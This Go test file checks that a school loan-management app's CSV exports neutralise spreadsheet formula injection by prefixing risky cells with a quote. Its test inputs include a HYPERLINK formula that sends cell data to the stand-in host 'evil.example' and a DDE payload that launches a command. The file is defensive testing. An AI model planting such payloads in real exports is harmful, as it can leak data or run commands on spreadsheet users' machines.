package web_test

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/classemobile/classemobile/internal/store"
	"github.com/classemobile/classemobile/internal/store/storetest"
	"github.com/classemobile/classemobile/internal/web"
)

const formula = `=HYPERLINK("https://evil.example/?"&A1;"Voir le bilan")`

// TestSynthesisCSVNeutralisesFormulas checks that a request title typed as
// a formula reaches the coordinator's spreadsheet as text.
func TestSynthesisCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	storetest.EachDialect(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		ts := newTestServer(t, db)
		c := newRequestCast(t, db)
		storetest.Pack(t, db, nil)
		q := storetest.RequestContent(c.school.UAI, c.teacher.ID, "2026-2027", 20)
		q.Title = formula
		q, err := db.CreateRequest(ctx, store.Actor{UserID: c.teacher.ID}, q)
		require.NoError(t, err)
		require.NoError(t, storetest.DriveRequest(ctx, db, &q, store.RequestValidated))

		res := call(t, ts, "GET", "/api/v1/synthesis?year=2026-2027&format=csv", c.tokens[store.RoleCoordinator], nil)
		require.Equal(t, 200, res.Status, "%s", res.Body)
		rows, err := csvReader(string(res.Body)).ReadAll()
		require.NoError(t, err)
		require.GreaterOrEqual(t, len(rows), 2)
		assert.Equal(t, "'"+formula, rows[1][5], "title column")
		for _, row := range rows {
			for _, cell := range row {
				assert.False(t, strings.HasPrefix(cell, "="), "no cell starts a formula: %q", cell)
			}
		}
	})
}

// TestAssessmentsCSVNeutralisesFormulas checks the assessments export: a
// teacher's free text never runs in the inspectorate's spreadsheet.
func TestAssessmentsCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	entries := []store.AssessmentEntry{{
		Loan:       store.Loan{ID: 7, RequestID: 3, SchoolUAI: "0930001A", RequestTitle: "+cmd|' /C calc'!A0"},
		Assessment: store.Assessment{Human: formula, Pedagogical: "@SOMME(1;2)", Productions: []string{"-1+1"}},
	}}
	require.NoError(t, web.WriteAssessmentsCSV(&buf, entries, web.AssessmentNames{Schools: map[string]string{"0930001A": "\t=1"}}))
	rows, err := csvReader(buf.String()).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 2)
	assert.Equal(t, "'\t=1", rows[1][2], "school name")
	assert.Equal(t, "'+cmd|' /C calc'!A0", rows[1][5], "project title")
	assert.Equal(t, "'"+formula, rows[1][9], "human aspects")
	assert.Equal(t, "'@SOMME(1;2)", rows[1][10], "pedagogical aspects")
	assert.Equal(t, "'-1+1", rows[1][11], "productions")
}
